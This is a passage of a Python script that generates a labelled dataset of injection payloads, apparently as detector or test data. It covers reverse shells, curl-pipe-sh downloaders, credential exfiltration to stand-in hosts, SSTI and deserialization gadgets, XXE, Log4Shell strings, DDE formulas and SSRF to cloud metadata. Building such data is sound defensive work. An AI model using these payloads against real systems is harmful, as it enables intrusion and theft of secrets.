        ("semicolon+glob", "x;/???/c?t /???/p??s??"),
        ("semicolon+base64", "x; echo %s | base64 -d | sh" % b64("curl -s http://203.0.113.25/b | sh")),
        ("semicolon+urlenc", q("x; id")),
        ("newline+urlenc", "x%0aid"),
        ("windows-ampersand-powershell", "x & powershell -nop -w hidden -c \"iwr http://203.0.113.26/p.ps1 -UseBasicParsing | iex\""),
        ("windows-caret", "x & w^h^o^a^m^i"),
        ("windows-encoded-command", "x & powershell -enc " + ps),
        ("figlet-banner-breakout", "Hello\"; id; echo \""),
        ("cowsay-quote-breakout", "moo'; cat /etc/passwd; echo '"),
        ("emoji-subshell", "🔥$(curl -s 203.0.113.26/e|sh)🔥"),
        ("i18n-filename-semicolon", "請求書.pdf; rm -rf ~/uploads"),
        ("ping-field-and", "8.8.8.8 && cat /etc/passwd"),
        ("pipe-reverse-shell-bash", "x | bash -c 'bash -i >& /dev/tcp/203.0.113.27/4444 0>&1'"),
        ("semicolon-reverse-shell-mkfifo", "x; rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.27 4444 > /tmp/f"),
        ("semicolon-reverse-shell-python", "x; python3 -c 'import socket,os,pty;s=socket.create_connection((\"203.0.113.27\",4445));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
        ("backtick-hostname", "`curl 203.0.113.28/h|sh`.kiezkaffee.de"),
        ("perl-open-trailing-pipe", "cat /etc/passwd|"),
        ("imagemagick-pipe-filename", "|curl -s http://203.0.113.29/i | sh"),
        ("tar-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
        ("find-exec", "x -exec cat /etc/shadow {} +"),
        ("curl-arg-output", "-o /var/www/html/s.php http://203.0.113.30/s.txt"),
        ("wget-arg-post-file", "--post-file=/etc/passwd http://203.0.113.35/"),
        ("rsync-remote-shell", "-e 'sh -c id' x:"),
        ("sendmail-arg-injection", "mallory@attacker.example -OQueueDirectory=/tmp -X/var/www/html/x.php"),
        ("semicolon-crontab-persistence", "x; (crontab -l; echo '* * * * * curl -s http://203.0.113.31/c|sh') | crontab -"),
        ("semicolon-authorized-keys", "x; echo 'ssh-ed25519 %s mallory' >> ~/.ssh/authorized_keys" % key),
        ("semicolon-env-exfil", "x;curl -d @/proc/self/environ http://203.0.113.32/"),
        ("and-aws-creds-exfil", "x && curl -F f=@$HOME/.aws/credentials http://203.0.113.32/u"),
        ("pipe-sleep", "x|sleep 10"),
        ("backticks-ping-time", "x`ping -c 10 127.0.0.1`"),
        ("csv-field-subshell", "10234,\"$(curl -s http://203.0.113.33/csv|sh)\",2"),
        ("telemetry-device-subshell", "device=th-0042$(id>/tmp/p) temp_c=21.7"),
        ("semicolon+brace-expansion", "x;{cat,/etc/passwd}"),
        ("semicolon+variable-concat", "x;a=ca;b=t;$a$b /etc/passwd"),
        ("subshell+reversed-string", "x;$(rev<<<'dwssap/cte/ tac')"),
        ("subshell+printf-hex", "x;$(printf '\\x69\\x64')"),
        ("semicolon+wildcard-path", "x;/bin/c[a]t /e[t]c/p[a]sswd"),
        ("semicolon+substring-slash", "x;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
        ("git-branch-subshell", "feature/$(curl${IFS}-s${IFS}203.0.113.34|sh)"),
        ("powershell-subexpression", "x$(Start-Process cmd -ArgumentList '/c whoami > C:\\temp\\w.txt')"),
        ("windows-comspec", "x & %COMSPEC% /c whoami"),
        ("windows-certutil-download", "x & certutil -urlcache -split -f http://203.0.113.36/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
        ("shellshock-env-function", "() { :;}; /bin/bash -c 'curl -s http://203.0.113.37/s|sh'"),
    ]
    wraps = [("hostname", "kiezkaffee.de%s"), ("filename", "export_2025-03.csv%s"), ("ip", "84.17.46.2%s"),
             ("branch", "release/2.4%s"), ("regex", "^ERROR.*timeout$%s"), ("banner", "Happy 30th Zoë%s")]
    seps = [(";", "semicolon"), ("|", "pipe"), ("&&", "and"), ("||", "or"), ("\n", "newline"), ("$(%s)", "subshell"), ("`%s`", "backticks")]
    cmds = ["id", "cat /etc/passwd", "curl -s http://203.0.113.41/x | sh", "wget -qO- http://198.51.100.23/p | sh",
            "nslookup $(whoami).exfil.attacker.example", "sleep 12", "uname -a > /tmp/u", "nc 203.0.113.42 4444 -e /bin/sh"]

    def gen():
        wname, w = pick(wraps)
        sep, sname = pick(seps)
        cmd = pick(cmds)
        enc = pick(["", "", "+ifs", "+urlenc"])
        if enc == "+ifs":
            cmd = cmd.replace(" ", "${IFS}")
        part = (sep % cmd) if "%s" in sep else sep + (" " if RNG.random() < 0.5 and sep != "\n" else "") + cmd
        if enc == "+urlenc":
            part = q(part)
        return "%s-%s%s" % (wname, sname, enc), w % part
    return take(lit, gen, 75)


# ====================================================================== code
def code():
    pickle_b64 = b64(b"cos\nsystem\n(S'curl -s http://203.0.113.50/p | sh'\ntR.")
    bh = "Monolog\\Handler\\BufferHandler"
    monolog = php_ser(PhpObj("Monolog\\Handler\\SyslogUdpHandler", {prot("socket"): PhpObj(bh, {
        prot("handler"): PhpRaw("r:2;"), prot("bufferSize"): -1,
        prot("buffer"): [{0: "curl -s http://203.0.113.50/m | sh", "level": None}],
        prot("level"): None, prot("initialized"): True, prot("bufferLimit"): -1,
        prot("processors"): ["current", "system"]})}))
    cj, fcj, sc = "GuzzleHttp\\Cookie\\CookieJar", "GuzzleHttp\\Cookie\\FileCookieJar", "GuzzleHttp\\Cookie\\SetCookie"
    guzzle = php_ser(PhpObj(fcj, {
        priv(cj, "cookies"): [PhpObj(sc, {priv(sc, "data"): {"Name": "s", "Value": "<?php system($_GET[0]); ?>", "Domain": "x",
                                                           "Path": "/", "Expires": 1, "Discard": False}})],
        priv(cj, "strictMode"): False, priv(fcj, "filename"): "/var/www/html/cookie.php", priv(fcj, "storeSessionCookies"): True}))
    lit = [
        ("ssti-erb-backticks", "<%= `id` %>"),
        ("ssti-erb-file-read", "<%= File.read('/etc/passwd') %>"),
        ("ssti-erb-system", "Dear customer,\n<%= system(\"curl -s http://203.0.113.30/e | sh\") %>\nThanks"),
        ("ssti-jinja2-lipsum-globals", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
        ("ssti-jinja2-cycler", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("ssti-jinja2-config-leak-in-wiki", "'''Sources:''' see {{ config.items() }} and [[Main Page]]"),
        ("ssti-jinja2-request-application", "{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}"),
        ("ssti-jinja2+hex-escape", "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
        ("ssti-jinja2-subclasses-loop", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'], stdout=-1).communicate() }}{% endif %}{% endfor %}"),
        ("ssti-jinja2-in-bbcode", "[quote]{{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}[/quote]"),
        ("ssti-twig-filter-system", "{{ ['id']|filter('system') }}"),
        ("ssti-twig-map-passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
        ("ssti-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        ("ssti-velocity-runtime", "#set($s=\"\")#set($rt=$s.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
        ("ssti-mako-import", "<%\nimport os\nx = os.popen('id').read()\n%>${x}"),
        ("ssti-smarty-system", "{system('cat /etc/passwd')}"),
        ("ssti-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
        ("ssti-ejs-execsync", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
        ("ssti-razor-process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\temp\\\\w.txt\")"),
        ("ssti-thymeleaf-preprocess-spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
        ("ssti-handlebars-constructor", "{{#with this as |o|}}{{#with (o.constructor.constructor \"return process.mainModule.require('child_process').execSync('id').toString()\") as |f|}}{{f}}{{/with}}{{/with}}"),
        ("ssti-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
        ("ssti-jinja2-in-wiki-subclasses-leak", "== Notes ==\n{{ ''.__class__.__base__.__subclasses__() }}"),
        ("java-el-runtime", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
        ("spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('curl http://203.0.113.51/s')}"),
        ("ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
        ("mvel-runtime", "Runtime.getRuntime().exec(\"id\");"),
        ("yaml-python-object-apply", "!!python/object/apply:os.system [\"curl -s http://203.0.113.31/y | sh\"]"),
        ("yaml-python-object-new-subprocess", "settings:\n  theme: !!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
        ("yaml-python-popen", "!!python/object/apply:subprocess.Popen\n- [sh, -c, \"id > /tmp/y\"]"),
        ("yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.32/yaml.jar\"]]]]"),
        ("yaml-snakeyaml-jdbcrowset", "datasource: !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://203.0.113.33:1389/Obj\", autoCommit: true}"),
        ("deser-python-pickle+base64", pickle_b64),
        ("deser-php-monolog-buffer-handler", monolog),
        ("deser-php-guzzle-file-cookie-jar+urlenc", q(guzzle)),
        ("deser-dotnet-typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
        ("deser-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://203.0.113.33:1389/Exploit\",\"autoCommit\":true}"),
        ("deser-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"rmi://203.0.113.33:1099/obj\",\"autoCommit\":true}]"),
        ("deser-node-serialize-iife", "{\"profile\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id > /tmp/n')}()\"}"),
        ("deser-java-xmldecoder", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"2\"><void index=\"0\"><string>touch</string></void><void index=\"1\"><string>/tmp/x</string></void></array><void method=\"start\"/></object></java>"),
        ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><order><note>&x;</note></order>"),
        ("xxe-svg-file", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"0\" y=\"20\">&h;</text></svg>"),
        ("xxe-oob-parameter-entity", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://203.0.113.52/evil.dtd\"> %d;]><r/>"),
        ("xxe-xinclude", "<feed xmlns:xi=\"http://www.w3.org/2001/XInclude\"><entry><xi:include parse=\"text\" href=\"file:///etc/hosts\"/></entry></feed>"),
        ("xxe-soap-body", "<!DOCTYPE soap:Envelope [<!ENTITY s SYSTEM \"file:///home/app/.env\">]><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetOrder><id>&s;</id></GetOrder></soap:Body></soap:Envelope>"),
        ("log4shell-jndi-in-ua", "84.17.46.2 - - [04/Mar/2025:10:15:32 +0100] \"GET / HTTP/1.1\" 200 512 \"-\" \"${jndi:ldap://203.0.113.34:1389/a}\""),
        ("log4shell-jndi+lower-lookup", "${${lower:j}ndi:${lower:l}dap://203.0.113.34/o}"),
        ("log4shell-jndi+default-value", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.34/o}"),
        ("log4shell-env-exfil", "level=info user=${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.exfil.attacker.example/x}"),
        ("prototype-pollution-json", "{\"settings\":{\"__proto__\":{\"isAdmin\":true}}}"),
        ("prototype-pollution-constructor", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
        ("prototype-pollution-query-ejs-gadget", "settings[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
        ("prototype-pollution-child-process-gadget", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"env\":{\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}}"),
        ("prototype-pollution-dotted-key", "constructor.prototype.isAdmin=true"),
        ("formula-hyperlink-exfil", "10234,\"=HYPERLINK(\"\"http://attacker.example/c?d=\"\"&A2&B2,\"\"Click to verify\"\")\",2"),
        ("formula-dde-cmd", "=cmd|' /C powershell -nop -w hidden -c iwr http://203.0.113.35/p.ps1|iex'!A0"),
        ("formula-dde-at-prefix", "@SUM(1+9)*cmd|' /C calc'!A0"),
        ("formula-dde-plus-prefix", "Anna,Müller,+cmd|'/c notepad'!_xlbgnm.A1,DE"),
        ("formula-dde-minus-prefix", "-2+3+cmd|' /C explorer http://attacker.example'!A0"),
        ("formula-importxml-exfil", "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",A1),\"//a\")"),
        ("formula-webservice-exfil", "=WEBSERVICE(\"http://attacker.example/?\"&ENCODEURL(A2&\";\"&B2))"),
        ("ssi-exec", "<!--#exec cmd=\"cat /etc/passwd\" -->"),
        ("python-eval-calc-field", "__import__('os').popen('id').read()"),
        ("julia-run", "run(`sh -c 'curl -s http://203.0.113.53/j | sh'`)"),
        ("r-system-call", "system(\"curl -s http://203.0.113.39/r | sh\", intern = TRUE)"),
        ("matlab-system-call", "[s, out] = system('cat /etc/passwd')"),
        ("r-eval-parse", "eval(parse(text = \"system('id', intern = TRUE)\"))"),
        ("nosql-where-js", "{\"$where\": \"this.password.match(/^a/) || sleep(5000)\"}"),
        ("nosql-ne-auth-bypass", "{\"username\": \"admin\", \"password\": {\"$ne\": null}}"),
        ("php-code-eval", "<?php system($_GET['c']); ?>"),
        ("php-code-short-backtick", "<?=`$_GET[0]`?>"),
    ]
    engines = [("jinja2", "{{ %s }}", "lipsum.__globals__.os.popen('%s').read()"),
               ("erb", "<%%= %s %%>", "`%s`"),
               ("twig", "{{ %s }}", "['%s']|filter('system')"),
               ("freemarker", "%s", "<#assign e=\"freemarker.template.utility.Execute\"?new()>${e(\"%s\")}"),
               ("ejs", "<%%= %s %%>", "process.mainModule.require('child_process').execSync('%s')")]
    wraps = [("bbcode", "[quote]%s[/quote]"), ("wiki", "== Note ==\n%s\n[[Category:Drafts]]"), ("markdown", "**Note:** %s"),
             ("jira", "{panel}%s{panel}"), ("email", "> %s"), ("i18n", "こんにちは %s さん"), ("plain", "%s")]
    cmds = ["id", "whoami", "cat /etc/passwd", "uname -a", "env", "curl -s http://203.0.113.54/t"]

    def gen():
        r = RNG.random()
        if r < 0.75:
            ename, tpl, expr = pick(engines)
            wname, w = pick(wraps)
            return "ssti-%s-in-%s" % (ename, wname), w % (tpl % (expr % pick(cmds)))
        host = pick(ATK_HOSTS)
        scheme, port = pick([("ldap", 389), ("ldap", 1389), ("ldaps", 636), ("rmi", 1099), ("dns", 53)])
        return "log4shell-jndi", "${jndi:%s://%s:%d/%s}" % (scheme, host, port,
                                                           "".join(pick("abcdefghijklmnop") for _ in range(6)))
    return take(lit, gen, 78)


# ====================================================================== ssrf
def ssrf():
    md = "169.254.169.254"
    body = "{\"email\":\"mallory@attacker.example\",\"role\":\"admin\"}"
    lit = [
        ("oidc-request-uri-metadata", "https://login.acme-idp.com/oauth2/authorize?client_id=storefront&response_type=code&request_uri=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F"),
        ("oidc-registration-jwks-uri", "{\"client_name\":\"Acme Sync\",\"redirect_uris\":[\"https://app.acme-outfitters.com/cb\"],\"jwks_uri\":\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\",\"logo_uri\":\"http://127.0.0.1:8080/admin\"}"),
        ("oidc-registration-sector-identifier", "{\"redirect_uris\":[\"https://ok.example/cb\"],\"sector_identifier_uri\":\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\"}"),
        ("oauth-redirect-uri-internal", "https://login.acme-idp.com/oauth2/authorize?response_type=code&client_id=storefront&redirect_uri=http%3A%2F%2F127.0.0.1%3A2375%2Fcontainers%2Fjson&state=x"),
        ("oauth-redirect-uri-metadata+decimal-ip", "https://login.acme-idp.com/authorize?client_id=x&redirect_uri=http://2852039166/latest/meta-data/&response_type=code"),
        ("metadata-aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("metadata-aws-user-data", "http://169.254.169.254/latest/user-data"),
        ("metadata-aws+decimal-ip", "http://2852039166/latest/meta-data/"),
        ("metadata-aws+hex-ip", "http://0xa9fea9fe/latest/meta-data/iam/"),
        ("metadata-aws+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
        ("metadata-aws+mixed-radix-ip", "http://0xa9.254.0251.0376/latest/meta-data/"),
        ("metadata-aws+ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
        ("metadata-aws+ipv6-mapped-dotted", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
        ("metadata-aws-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
        ("metadata-aws+enclosed-alphanumerics", "http://⑯⑨。②⑤④。⑯⑨。②⑤④/latest/meta-data/"),
        ("metadata-aws+userinfo-confusion", "https://acme-outfitters.com@169.254.169.254/latest/meta-data/"),
        ("metadata-aws+fullwidth", "http://" + fullwidth("169.254.169.254") + "/latest/meta-data/"),
        ("metadata-ecs", "http://169.254.170.2/v2/metadata"),
        ("gopher-metadata-gcp-header", "gopher://metadata.google.internal:80/_" + q("GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\r\nHost: metadata.google.internal\r\nMetadata-Flavor: Google\r\nConnection: close\r\n\r\n")),
        ("gopher-metadata-azure-header", "gopher://169.254.169.254:80/_" + q("GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/ HTTP/1.1\r\nHost: 169.254.169.254\r\nMetadata: true\r\nConnection: close\r\n\r\n")),
        ("metadata-alibaba", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
        ("metadata-digitalocean", "http://169.254.169.254/metadata/v1.json"),
        ("metadata-oracle", "http://169.254.169.254/opc/v1/instance/"),
        ("loopback-127-short", "http://127.1:8080/actuator/env"),
        ("loopback-zero", "http://0:6379/"),
        ("loopback-decimal", "http://2130706433/admin"),
        ("loopback-hex", "http://0x7f000001:9200/_cat/indices"),
        ("loopback-ipv6", "http://[::1]:8500/v1/kv/?recurse"),
        ("loopback-ipv6-mapped", "http://[::ffff:127.0.0.1]:2379/v2/keys/?recursive=true"),
        ("loopback-trailing-dot", "http://localhost.:15000/config_dump"),
        ("loopback-nip-io", "http://127.0.0.1.nip.io:8080/admin/flush"),
        ("internal-kubernetes-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
        ("internal-kubelet", "https://10.0.0.1:10250/pods"),
        ("internal-docker", "http://127.0.0.1:2375/containers/json?all=1"),
        ("internal-consul", "http://localhost:8500/v1/agent/self"),
        ("gopher-redis-cron", "gopher://127.0.0.1:6379/_" + q(resp("flushall") + resp("set", "x", "\n\n* * * * * curl -s http://203.0.113.60/r|sh\n\n\n")
                                                            + resp("config", "set", "dir", "/var/spool/cron/") + resp("config", "set", "dbfilename", "root")
                                                            + resp("save"))),
        ("gopher-smtp", "gopher://127.0.0.1:25/_" + q("HELO x\r\nMAIL FROM:<ceo@acme-outfitters.com>\r\nRCPT TO:<finance@acme-outfitters.com>\r\nDATA\r\nSubject: urgent wire\r\n\r\nPlease pay invoice 4411 today.\r\n.\r\nQUIT\r\n")),
        ("gopher-internal-http", "gopher://10.0.0.5:80/_" + q("POST /admin/users HTTP/1.1\r\nHost: 10.0.0.5\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))),
        ("dict-redis", "dict://127.0.0.1:6379/CONFIG:SET:dir:/var/www/html"),
        ("dict-memcached", "dict://127.0.0.1:11211/stats"),
        ("ldap-scheme", "ldap://127.0.0.1:389/dc=acme,dc=internal??sub?(objectClass=*)"),
        ("file-scheme", "file:///etc/passwd"),
        ("file-scheme-proc", "file:///proc/self/environ"),
        ("netdoc-scheme", "netdoc:///etc/passwd"),
        ("jar-scheme", "jar:http://203.0.113.61/x.zip!/evil.txt"),
        ("data-url-svg-image-fetch", "data:image/svg+xml;base64," + b64("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"200\" height=\"200\"><image xlink:href=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"200\" height=\"200\"/></svg>")),
        ("data-url-html-iframe-renderer", "data:text/html," + q("<iframe src=\"http://169.254.169.254/latest/user-data\" width=800 height=600></iframe>")),
        ("markdown-image-pdf-renderer", "![receipt](http://169.254.169.254/latest/meta-data/iam/security-credentials/)"),
        ("wiki-image-url-renderer", "[[File:http://127.0.0.1:8080/admin/backup.zip|thumb]]"),
        ("bbcode-img-fetch", "[img]http://10.0.0.12:8080/actuator/heapdump[/img]"),
        ("vcard-photo-uri", "BEGIN:VCARD\nVERSION:4.0\nFN:Anna\nPHOTO;VALUE=uri:http://169.254.169.254/latest/meta-data/iam/security-credentials/\nEND:VCARD"),
        ("ical-attach-uri", "BEGIN:VEVENT\nSUMMARY:Review\nATTACH;FMTTYPE=application/pdf:http://127.0.0.1:9000/minio/admin/v3/info\nEND:VEVENT"),
        ("webhook-json-hex-ip", "{\"webhook_url\":\"http://0x7f.0x0.0x0.0x1:8080/admin/flush\"}"),
        ("open-redirect-chain-metadata", "https://app.acme-outfitters.com/redirect?url=" + q("http://169.254.169.254/latest/meta-data/")),
        ("metadata-aws+urlenc", q("http://169.254.169.254/latest/meta-data/iam/security-credentials/")),
        ("esi-include", "<esi:include src=\"http://127.0.0.1:8080/admin/users\"/>"),
        ("crlf-request-injection-redis", "http://127.0.0.1:6379/\r\nCONFIG SET dir /var/www/html\r\nCONFIG SET dbfilename s.php\r\nSET x \"<?php system($_GET[0]); ?>\"\r\nSAVE\r\n"),
        ("crlf-header-injection-fetch", "http://10.0.0.5:8080/status HTTP/1.1\r\nHost: 10.0.0.5\r\n\r\nGET /admin/delete?user=1 HTTP/1.1\r\nX-Pad: "),
        ("dns-rebinding", "http://a9fea9fe.cb007148.rbndr.us/latest/meta-data/"),
        ("xml-feed-import-internal", "https://feeds.acme-outfitters.com/import?url=http%3A%2F%2F127.0.0.1%3A8983%2Fsolr%2Fadmin%2Fcores%3Faction%3DSTATUS"),
    ]
    paths = ["/latest/meta-data/", "/latest/meta-data/iam/security-credentials/", "/latest/user-data", "/latest/dynamic/instance-identity/document"]
    hosts = [("metadata-aws", md), ("metadata-aws+decimal-ip", "2852039166"), ("metadata-aws+hex-ip", "0xa9fea9fe"),
             ("metadata-aws+octal-ip", "0251.0376.0251.0376"), ("metadata-aws+ipv6-mapped", "[::ffff:a9fe:a9fe]")]
    ctx = [("webhook", "{\"url\":\"%s\"}"), ("avatar", "avatar_url=%s"), ("import", "https://app.acme-outfitters.com/import?feed=%s"),
           ("markdown-image", "![img](%s)"), ("bbcode-img", "[img]%s[/img]"), ("plain", "%s"), ("ical", "ATTACH:%s")]

    def gen():
        hname, host = pick(hosts)
        cname, tpl = pick(ctx)
        url = "http://%s%s" % (host, pick(paths))
        if cname == "import":
            return "%s-%s+urlenc" % (cname, hname), tpl % q(url)
        return "%s-%s" % (cname, hname), tpl % url
    return take(lit, gen, 70)


CATEGORIES = [
    ("sqli", sqli),
    ("xss", xss),
    ("traversal", traversal),
    ("cmdi", cmdi),
    ("code", code),
    ("ssrf", ssrf),
]


def main():
    rows, counts = [], {}
    for cat, fn in CATEGORIES:
        items = fn()
        counts[cat] = len(items)
        rows.extend((cat, cls, v) for cls, v in items)
    assert len(set(v for _, _, v in rows)) == len(rows), "duplicate value"
    with OUT.open("w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "ha19-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    for cat, _ in CATEGORIES:
        print("%-10s %d" % (cat, counts[cat]))
    print("%-10s %d" % ("total", len(rows)))


if __name__ == "__main__":
    main()
